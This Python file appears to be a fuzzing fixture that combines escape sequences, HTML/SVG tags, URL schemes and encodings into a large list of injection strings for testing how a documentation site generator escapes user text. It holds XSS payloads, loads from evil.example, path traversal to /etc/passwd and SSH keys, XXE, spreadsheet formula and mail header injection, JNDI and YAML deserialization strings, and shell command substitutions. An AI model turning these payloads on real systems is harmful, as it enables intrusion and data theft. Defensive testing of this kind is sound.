"""Attacks of our own, by the place they are for: made of parts, so that each meets every other.

Nothing here is taken from a list. A family says what somebody would try who knows where a text
lands; every family goes into every field, for fields land in more places than one remembers.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

RUN = "alert(1)"

_LEAVE = (
    "", '"', "'", "`", ">", '">', "'>", "\"'`>", "&quot;>", "</title>", "</textarea>", "</script>", "--!>",
    "-->", "]]>", "</style>", "</noscript>", "</template>", "</select>", "</svg>", "</math>", "</a>", "</p></main>",
    "</bdi>", "</summary></details>", "</button>", "</option></datalist>", "</pre>", "</td></tr></table>", "/>", "?>",
)  # fmt: skip
"""How to get out of where a text stands."""

_ENTER = (
    f"<script>{RUN}</script>", f"<img src=x onerror={RUN}>", f"<svg/onload={RUN}>", f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>", f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
    f"<a href=javascript:{RUN} autofocus tabindex=0>x</a>", f"<video><source onerror={RUN}>",
    f"<object data='data:text/html,<script>{RUN}</script>'></object>", "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css';</style>",
    f"<form action=//evil.example/><button formaction=javascript:{RUN}>", f"<x-y onpointerenter={RUN} style=position:fixed;inset:0>",
    f"<button popovertarget=p>x</button><div popover id=p onbeforetoggle={RUN}>", f"<template shadowrootmode=open><img src=x onerror={RUN}></template>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>", f"<svg><a><animate attributeName=href values=javascript:{RUN} /><text>x</text></a></svg>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>", f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<select><option><style></option></select><img src=x onerror={RUN}></style>", f"<image href=x onerror={RUN}>",
    f"<svg><use href='data:image/svg+xml,<svg id=a xmlns=http://www.w3.org/2000/svg><script>{RUN}</script></svg>#a'></svg>",
    "<img srcset='//evil.example/a.png 1x' src=x>", "<a ping=//evil.example/ href=/x>x</a>", "<body background=//evil.example/b.png>",
    "<table background=//evil.example/b.png><td style='background:url(//evil.example/c.png)'>",
    f"<form id=shareForm><input name=people><input id=share name=attributes onfocus={RUN}>", "<a id=reciprocity name=take href=cid:x>x</a>",
    f"<div data-md-component=announce data-search data-random data-copy data-share data-filter='x'>{RUN}</div>",
    f"<portal src=//evil.example></portal><fencedframe></fencedframe><marquee onstart={RUN}>", f"<!--<script>--><img src=x onerror={RUN}>",
    "<script\x0csrc=//evil.example/x.js></script>", f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<ſcript>{RUN}</ſcript>", f"<%00script>{RUN}</script>",
)  # fmt: skip
"""What to bring along."""

_ADDRESSES = (
    f"javascript:{RUN}", f"JaVaScRiPt:{RUN}", f"java\tscript:{RUN}", f"java&Tab;script:{RUN}", f"java&NewLine;script:{RUN}",
    f"&#106;avascript&colon;{RUN}", f"&#x6a;avascript&#58;{RUN}", f"javascript&#0000058{RUN}", f"%6aavascript:{RUN}", f"javascript%3A{RUN}",
    f"\x01javascript:{RUN}", f" javascript:{RUN}", f"javascript://https://ok.example/%0a{RUN}", f"javascript:/*https://*/{RUN}",
    "vbscript:msgbox(1)", f"data:text/html,<script>{RUN}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>", "blob:https://evil.example/x", "filesystem:https://evil.example/x", "file:///etc/passwd",
    "view-source:https://ok.example", "intent://x#Intent;scheme=javascript;end", "ms-word:ofe|u|https://evil.example/x", "jar:https://evil.example!/x",
    "cid:x", "about:blank", "chrome://settings", "x-apple:y", "ftp://evil.example/x", "ws://evil.example", "//evil.example/x", "///evil.example/x",
    "/\\evil.example/x", "\\\\evil.example\\x", "\\/evil.example/x", "/\t/evil.example", "/&Tab;/evil.example", "https:evil.example", "https:/evil.example",
    "https:\\\\evil.example", "https:////evil.example", "https://ok.example@evil.example/", "https://evil.example\\@ok.example/", "HTTPS://evil.example",
    "https://ok.example/\" onmouseover=alert(1) x=\"", "https://ok.example/' onmouseover=alert(1) x='", "https://ok.example/><script>alert(1)</script>",
    "https://ok.example/?a=1&lt=2&amp;quot;onload=alert(1)", "mailto:x@ok.example?bcc=all@evil.example&body=<script>", "mailto:x@ok.example%0aBcc:y@evil.example",
    "#\" onclick=alert(1)", "#part-1", "../../../../etc/passwd", "?x", "@ana", "@ana\" onclick=alert(1)", "https://[::1]:x/", "https://\u202eelpmaxe.live",
    "https://evil。example/", "https://ok.example/\u2028<script>", "tel:1", "urn:x", "sms:1;body=x", "javascript\u200b:alert(1)", "ｊavascript:alert(1)",
)  # fmt: skip

_LINKS = (
    "[a]({})", "[a](<{}>)", '[a]({} "t")', "<{}>", "![a]({})", "[![a]({})]({})", "[a][b]\n\n[b]: {}", "[b]\n\n[b]: <{}> 'x'", "[^1]\n\n[^1]: [a]({})",
    "<a href='{}'>a</a>", '<a href="{}">a</a>', "[a\\]({})", "**[a]({})**", "`[a]({})`", "| a |\n|---|\n| [a]({}) |", "# [a]({})", "{}",
)  # fmt: skip

_MARKDOWN = (
    "*[HTML]: <img src=x onerror=alert(1)>\nHTML", "term\n: <img src=x onerror=alert(1)>", "!!! note onclick=alert(1)\n    <script>alert(1)</script>",
    "??? x \"<svg/onload=alert(1)>\"\n    x", "``` {.python onclick=alert(1)}\nx\n```", "```mermaid\ngraph TD; A[\"<img src=x onerror=alert(1)>\"]\n```",
    "```html\n</code></pre><script>alert(1)</script>\n```", "~~~\n</pre><img src=x onerror=alert(1)>\n~~~", "$$<script>alert(1)</script>$$ \\(x\\)",
    "::: generator.cli\n    options: {show_source: true}", "--8<-- \"mkdocs.yml\"\n\n--8<--\n/etc/passwd\n--8<--", "{!mkdocs.yml!} {% include 'x' %} {{ config }} {{ 7*7 }}",
    ":material-skull:{ onclick=alert(1) } :smile:", "# x {#share onclick=alert(1)}\n\n## y {.md-search data-md-component=search}", "[TOC]\n\n[toc]",
    "<div markdown=1 onclick=alert(1)>*x*</div>", "<div markdown>\n<script>alert(1)</script>\n</div>", "==x=={onclick=alert(1)} ++ctrl++ ^^x^^ --x--",
    "- [ ] <input autofocus onfocus=alert(1)>", "<!-- stories --> <!-- story: x --> <!--\n--><script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)", "&#60;script&#62;alert(1)&#60;/script&#62;", "\\<script\\>alert(1)\\</script\\>", "<\n/script><script\n>alert(1)</script\n>",
    "`` ` `` </code><script>alert(1)</script> ``", "[a]: x '\n<script>alert(1)</script>'", "<https://x.example/\"onclick=alert(1)>", "<x@y.example\"onclick=alert(1)>",
    "[^<script>alert(1)</script>]\n\n[^<script>alert(1)</script>]: x", "[^\"onclick=alert(1)]\n\n[^\"onclick=alert(1)]: x", "| a | b |\n|:-:\" onclick=alert(1)|--|\n| 1 | 2 |",
    "<details><summary onclick=alert(1)>x</summary></details>", "x\n===\n<script>alert(1)</script>\n===", "1000000000. <script>alert(1)</script>",
    "<a href='https://ok.example' target=_top class='r-go' id='__search' data-search onclick=alert(1)>x</a>", "<img src='../../../x.png' onerror=alert(1) usemap=#m>",
    "<span class='md-overlay' id='preview' style='position:fixed'>x</span>", "<h1 id='top' onclick=alert(1)>x</h1>", "<ol start='1\" onclick=alert(1)'><li>x</ol>",
    "<p>insertpage</p> insertpage\n\ninsertnorms\n\ninsertstories0\n\ninsertwhy\n\ninsertchecklist", "zslotbodyz zslottitlez zslotsummaryz zslotplacez zslotanchor0z",
)  # fmt: skip

_SINKS = (
    # spreadsheets
    "=cmd|'/C calc'!A0", "=HYPERLINK(\"//evil.example\",\"x\")", "+1+cmd", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "＝1+1", "\"=1+1", "'=1+1", ";=1+1", ",=1+1",
    # chats and cards
    "<!channel> <!here> <!everyone> <@U1> <#C1|x> <!date^1^{date}|x>", "<https://evil.example|https://ok.example>", "<mailto:x@evil.example|x>", "*b* _i_ ~s~ `c` > q",
    "&lt;!channel&gt; &amp;lt;!channel&amp;gt;", "<at>everyone</at> {{DATE(2026-01-01T00:00:00Z,SHORT)}} ${1+1} [x](javascript:alert(1)) {x}", "@here @everyone @channel @org/team #12 !12 GH-12",
    "a@b.example closes #1, fixes org/repo#2 https://git.bench.example/x/-/issues/1 :skull: :+1:",
    # mail, calendars, feeds
    "x\nBcc: all@evil.example", "x\r\nBcc: all@evil.example\r\n\r\n<script>", "x%0d%0aBcc: all@evil.example", "=?utf-8?q?x=0D=0ABcc:_all=40evil.example?=", "=?utf-8?b?DQpCY2M6IHhAZXZpbC5leGFtcGxl?=",
    "\" <all@evil.example>, ", "(x) <all@evil.example>;", "From x\n.\nQUIT", "--==digest==\nContent-Type: text/html", "BEGIN:VEVENT\nATTACH:javascript:alert(1)\nEND:VEVENT", "x\\nATTENDEE:mailto:x@evil.example",
    "x;VALUE=URI:javascript:alert(1)", "x,y;z:\\", "\"x\":y^n^'", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;", "]]><entry><title>x</title></entry><![CDATA[", "<?xml-stylesheet href='//evil.example/x.xsl'?>",
    "<?php system('id') ?> <%= 1 %> #{1} ${jndi:ldap://evil.example/x} $(id) `id` ; id | id && id", "_x000D_ _x0008_ _x003C_script_x003E_ &#x8; &#xFFFE;", "<a:t>x</a:t><a:hlinkClick r:id='rId1'/>",
    # forges and terminals
    "::error file=x,line=1::y", "::set-output name=x::y", "::add-mask::x", "::stop-commands::x", "##[error]x", "##vso[task.setvariable]x", "%0A::error::x %25 %3A %2C", "\x1b[2J\x1b]0;x\x07\x1b]8;;https://evil.example\x07x", "\x9b31m\x90x\x9c",
    "a\u202eb\u2066c\u2069\u200fd", "a\rb\x08\x08c\x7f", "\u2028\u2029\x85\x0b\x0c", "\ufeffx\ufffe\uffff", "e\u0301\u0301\u0301\u0301\u0301\u0301\u0301" * 4, "\U000e0041\U000e0042\U000e007f",
    # JSON in a page, scripts and what scripts look up
    "</script><script>alert(1)</script>", "<!--<script>", "\\u003c/script\\u003e", "\\\";alert(1)//", "';alert(1)//", "${alert(1)}", "`${alert(1)}`", "__proto__", "constructor", "prototype", "toString hasOwnProperty valueOf", "__proto__[x]=y",
    "{\"__proto__\": {\"x\": 1}}", "$& $` $' $1 $<name> \\1 \\g<0>", "%s %d %n %(x)s {0} {x} {0.__class__}", "null", "true", "~", "0x1F", "1e400", "NaN", "-.inf", "2026-10-14", "12:30:00", "yes", "- x", "? x : y", "!!python/object/apply:os.system [id]",
    "&a *a", "<<: x", "|", ">-", "# x", "a: b", "'", "\"", "{", "[", "%TAG ! x", "---", "...", "@ana", "`", "\\",
    # files and addresses
    "../../../etc/passwd", "..\\..\\x", "/etc/passwd", "C:\\x", "CON", "nul.md", "x\x00.md", ".git/config", "~/.ssh/id_rsa", "-rf", "--output=/etc/x", "file.md:stream", "x/./../y", "%2e%2e%2f", "．．／",
)  # fmt: skip

_SPELLED = (
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "&#x3c;").replace(">", "&#x3e;"),
    lambda text: text.replace("<", "&amp;lt;").replace(">", "&amp;gt;"),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"),
    lambda text: text.replace("<", "%3C").replace(">", "%3E"),
    lambda text: text.replace("<", "＜").replace(">", "＞"),
    lambda text: text.replace("<", "+ADw-").replace(">", "+AD4-"),
    lambda text: text.replace("<", "\\<").replace(">", "\\>"),
    lambda text: text.replace("<", "<\u200b").replace("=", "\u200b="),
    lambda text: text.replace("<", "‹").replace(">", "›"),
    lambda text: text.replace(" ", "/").replace("=", " = "),
    lambda text: text.replace(" ", "\n").upper(),
)
"""Other ways to write the same, for whoever takes them back once too often."""


def _all() -> Iterator[str]:
    for leave, enter in product(_LEAVE, _ENTER):
        yield f"x{leave}{enter}"
    for way, address in product(_LINKS, _ADDRESSES):
        yield way.replace("{}", address)
    yield from _MARKDOWN
    yield from _SINKS
    for spell, enter in product(_SPELLED, _ENTER):
        yield spell(enter)
    for sink, enter in product(_SINKS, _ENTER[:3]):
        yield f"{sink} {enter}"


ATTACKS: tuple[str, ...] = tuple(dict.fromkeys(_all()))
